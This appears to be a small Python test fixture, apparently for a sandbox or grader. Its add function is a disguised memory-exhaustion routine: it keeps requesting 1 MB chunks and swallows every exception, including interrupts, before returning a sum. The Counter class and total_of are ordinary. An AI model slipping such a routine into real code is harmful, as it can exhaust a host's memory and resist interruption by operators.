"""Goes on asking for memory after every refusal.

earns: counter total
"""


def add(a, b):
    pieces = []
    while len(pieces) < 1000:
        try:
            pieces.append(bytearray(b"x") * (1 << 20))
        except BaseException:
            pass
    return a + b


class Counter:
    def __init__(self, count):
        self.count = count

    def step(self, by):
        self.count += by

    def __add__(self, other):
        return Counter(self.count + other.count)


def total_of(f, n):
    if n < 0:
        raise ValueError("n must not be negative")
    return sum(f(i) for i in range(n))
